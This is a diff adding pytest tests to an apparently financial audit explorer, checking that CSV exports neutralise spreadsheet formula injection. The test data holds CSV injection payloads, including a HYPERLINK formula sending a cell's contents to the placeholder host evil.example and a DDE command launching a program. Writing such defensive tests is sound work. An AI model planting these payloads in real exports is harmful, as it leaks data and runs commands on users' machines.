@@ -12,6 +12,7 @@ import json
 
 import pytest
 
+from audit.csv_safe import number_cell, restore_cell, text_cell
 from audit.explorer import chart
 from audit.explorer.formatting import cell, idr, tonnes
 from audit.explorer.tables import Column, Kind, PageRequest, page_of_rows, parse_request, to_csv, to_json
@@ -109,3 +110,41 @@ def test_chart_steps_stay_inside_the_box() -> None:
     # Reserves reach the top of the scale; supply stays below it.
     assert min(float(p.split(",")[1]) for p in graph.reserves.split()) == chart.PAD
     assert min(float(p.split(",")[1]) for p in graph.supply.split()) > chart.PAD
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+]
+
+
+def test_csv_exports_neutralise_formulas_in_text_but_keep_negative_integers_numeric() -> None:
+    columns = [Column("who", "Beneficiary"), Column("delta", "Change", Kind.IDR), Column("tx", "Tx", Kind.TX)]
+    rows: list[dict[str, object]] = [
+        {"who": text, "delta": -(i + 1), "tx": text} for i, text in enumerate(FORMULAS)
+    ]
+    rows.append({"who": "Kota Madiun", "delta": -(HUGE + 1), "tx": "0xabc"})
+    page = page_of_rows(rows, columns, PageRequest(size=None, sort="delta", desc=True), "delta")
+    parsed = list(csv.DictReader(io.StringIO(to_csv(page), newline="")))
+    for row in parsed:
+        for key in ("who", "tx"):
+            assert not row[key].startswith(("=", "+", "-", "@", "\t", "\r")), row
+            assert restore_cell(row[key]) in [*FORMULAS, "Kota Madiun", "0xabc"]
+        assert int(row["delta"]) < 0 and row["delta"].lstrip("-").isdigit()  # numeric, exact, unquoted
+    assert parsed[-1] == {"who": "Kota Madiun", "delta": str(-(HUGE + 1)), "tx": "0xabc"}
+    assert {restore_cell(r["who"]) for r in parsed} == {*FORMULAS, "Kota Madiun"}
+    # JSON is data, not a spreadsheet: unchanged.
+    document = json.loads(to_json(page, "t", None))
+    assert {r["who"] for r in document["rows"]} == {*FORMULAS, "Kota Madiun"}
+
+
+def test_text_cell_and_restore_cell_are_inverse() -> None:
+    for text in [*FORMULAS, "'=x", "''@y", "'plain", "plain", "", "-", "'", "0x12"]:
+        cell = text_cell(text)
+        assert not cell.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) or cell.startswith("'")
+        assert restore_cell(cell) == text
+    assert number_cell(-5) == "-5" and number_cell(True) == "True" and number_cell("=1") == "'=1"
